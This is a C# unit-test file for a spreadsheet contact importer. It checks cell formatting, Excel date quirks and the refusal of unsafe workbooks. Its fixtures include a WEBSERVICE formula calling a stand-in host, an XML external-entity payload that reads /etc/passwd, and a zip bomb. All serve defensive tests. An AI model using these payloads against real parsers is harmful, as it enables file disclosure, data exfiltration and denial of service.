using System.IO.Compression;
using ClosedXML.Excel;
using SecureMarketing.Core.Contacts.Import;
using SecureMarketing.Core.Contacts.Sources;
using static SecureMarketing.Tests.Contacts.XlsxFixture;

namespace SecureMarketing.Tests.Contacts;

/// <summary>Workbooks as a source: what cells mean, what is never computed, and what is too large to be one.</summary>
public sealed class XlsxReadingTests : IDisposable
{
    private readonly string folder = Directory.CreateTempSubdirectory("sm-xlsx-").FullName;

    public void Dispose() => Directory.Delete(folder, recursive: true);

    [Fact]
    public void WorkbookOfAnotherProgram_IsRead()
    {
        var path = Path.Combine(folder, "a.xlsx");
        using (var book = new XLWorkbook())
        {
            var sheet = book.AddWorksheet("Roster");
            sheet.Cell(1, 1).Value = "Patient ID";
            sheet.Cell(1, 2).Value = "Last";
            sheet.Cell(1, 3).Value = "DOB";
            sheet.Cell(1, 4).Value = "ZIP";
            sheet.Cell(1, 5).Value = "Weight";
            sheet.Cell(2, 1).Value = 1234567890123;
            sheet.Cell(2, 2).Value = "Müller";
            sheet.Cell(2, 3).Value = new DateTime(1990, 7, 4, 0, 0, 0, DateTimeKind.Unspecified);
            sheet.Cell(2, 4).Value = 2139;
            sheet.Cell(2, 4).Style.NumberFormat.Format = "00000";
            sheet.Cell(2, 5).Value = 70.25;
            sheet.Cell(3, 2).Value = "Roe";
            book.SaveAs(path);
        }

        Assert.Equal([["1234567890123", "Müller", "1990-07-04", "02139", "70.25"], ["", "Roe", "", "", ""]], Read(path));
    }

    [Fact]
    public void EveryKindOfCell_IsTextAsShown()
    {
        var rows = Row(1, "id", "b", "c", "d", "e", "f") +
            "<row r=\"4\"><c r=\"A4\" t=\"s\"><v>0</v></c><c r=\"C4\" t=\"b\"><v>1</v></c><c r=\"D4\" s=\"1\"><v>36526.75</v></c><c r=\"E4\" s=\"2\"><v>61</v></c><c r=\"F4\" s=\"3\"><v>12</v></c></row>";
        var path = Write(Workbook(rows, ["<r><t>p</t></r><r><t>1</t></r><rPh sb=\"0\" eb=\"1\"><t>hint</t></rPh>"], ["yyyy\\-mm\\-dd hh:mm", "[$-409]d\\-mmm\\-yy;@", "0.00\\ &quot;days&quot;"], ["name=\"Old\" state=\"hidden\""]));

        using var table = new XlsxRows(path, XlsxRows.FormOf(path, new TableForm()));
        Assert.True(table.MoveNext());

        Assert.Equal(4, table.Row);
        Assert.Equal(["p1", "", "true", "2000-01-01T18:00:00", "1900-03-01", "12"], Enumerable.Range(0, 6).Select(table.Cell));
        Assert.False(table.MoveNext());
        Assert.Equal(["People"], XlsxRows.SheetsOf(path));
    }

    /// <summary>Excel counts a 29 February 1900 that never was; workbooks that count from 1904 do not.</summary>
    [Theory]
    [InlineData("59", false, "1900-02-28")]
    [InlineData("60", false, "1900-02-29")]
    [InlineData("60.5", false, "1900-02-29")]
    [InlineData("61", false, "1900-03-01")]
    [InlineData("60", true, "1904-03-01")]
    [InlineData("0", false, "0")]
    public void DayNumber_IsTheDayThatExcelShows(string number, bool from1904, string expected) =>
        Assert.Equal(expected, XlsxFormat.Of(14, null).Text(number, from1904));

    [Fact]
    public void Formula_IsItsStoredResult_OrRefused_NeverComputed()
    {
        var path = Write(Workbook(Row(1, "id", "last") +
            "<row r=\"2\"><c r=\"A2\"><f>1+1</f><v>7</v></c><c r=\"B2\" t=\"str\"><f>UPPER(\"x\")</f><v>Roe</v></c></row>" +
            "<row r=\"3\"><c r=\"A3\"><v>3</v></c><c r=\"B3\"><f>WEBSERVICE(\"http://evil.example.com\")</f></c></row>" +
            "<row r=\"4\"><c r=\"A4\" t=\"e\"><f>1/0</f><v>#DIV/0!</v></c></row>"));
        using var table = new XlsxRows(path, new TableForm { Header = true });
        var seen = new List<(string, string, string?, int?)>();
        while (table.MoveNext())
            seen.Add((table.Cell(0), table.Cell(1), table.Fault, table.FaultColumn));

        Assert.Equal([("7", "Roe", null, null), ("3", "", ImportCodes.WorkbookFormula, 1), ("", "", ImportCodes.WorkbookErrorCell, 0)], seen);
    }

    [Fact]
    public void Bomb_IsRefused_BeforeItUnfolds()
    {
        var path = Path.Combine(folder, "bomb.xlsx");
        using (var zip = ZipFile.Open(path, ZipArchiveMode.Create))
        {
            using var part = zip.CreateEntry("xl/worksheets/sheet1.xml", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 64; i++)
                part.Write(zeros);
        }

        Assert.InRange(new FileInfo(path).Length, 1, 200_000);
        Assert.Equal(ImportCodes.WorkbookTooLarge, Refused(path));
    }

    public static TheoryData<string, string> Broken => new()
    {
        { "PK\u0003\u0004nonsense", ImportCodes.WorkbookUnreadable },
        { "", ImportCodes.WorkbookUnreadable },
    };

    [Theory]
    [MemberData(nameof(Broken))]
    public void BrokenWorkbook_IsRefused(string content, string code)
    {
        var path = Path.Combine(folder, "x.xlsx");
        File.WriteAllText(path, content);

        Assert.Equal(code, Refused(path));
    }

    [Fact]
    public void EntitiesAndMissingSheets_AreRefused()
    {
        var ok = Workbook(Row(1, "id") + Row(2, "p1"));
        Assert.Equal(ImportCodes.WorkbookSheet, Assert.Throws<ImportFileException>(() => new XlsxRows(Write(ok), new TableForm { Header = true, Sheet = "Nope" })).Code);
        var path = Write(ok);
        using (var zip = ZipFile.Open(path, ZipArchiveMode.Update))
        {
            zip.GetEntry("xl/worksheets/sheet1.xml")!.Delete();
            using var part = new StreamWriter(zip.CreateEntry("xl/worksheets/sheet1.xml").Open());
            part.Write("<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><worksheet><sheetData><row r=\"1\"><c t=\"str\"><v>&a;</v></c></row></sheetData></worksheet>");
        }

        Assert.Equal(ImportCodes.WorkbookUnreadable, Refused(path));
    }

    /// <summary>What the disk does not give says nothing about the workbook: it may be sound, and is to be tried again.</summary>
    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    public void DiskThatFails_IsNoDamagedWorkbook(int after)
    {
        using var failing = new FailingDisk(XlsxFixture.Workbook(XlsxFixture.Row(1, "id") + XlsxFixture.Row(2, "p1")), after);

        Assert.IsType<IOException>(Assert.Throws<IOException>(() => new XlsxParts(failing).Dispose()).InnerException);
    }

    /// <summary>Answers the first reads, then with what Windows and Linux say of a failing disk.</summary>
    private sealed class FailingDisk(byte[] content, int after) : MemoryStream(content, writable: false)
    {
        private int reads;

        public override int Read(Span<byte> buffer) => reads++ >= after ? throw new IOException("Input/output error") : base.Read(buffer);

        public override int Read(byte[] buffer, int offset, int count) => Read(buffer.AsSpan(offset, count));
    }

    private static string Refused(string path) => Assert.Throws<ImportFileException>(() => Read(path)).Code;

    private static List<string[]> Read(string path)
    {
        using var table = new XlsxRows(path, XlsxRows.FormOf(path, new TableForm()));
        var read = new List<string[]>();
        while (table.MoveNext())
            read.Add([.. Enumerable.Range(0, table.Columns.Count).Select(table.Cell)]);
        return read;
    }

    private string Write(byte[] content)
    {
        var path = Path.Combine(folder, Guid.CreateVersion7().ToString("N") + ".xlsx");
        File.WriteAllBytes(path, content);
        return path;
    }
}
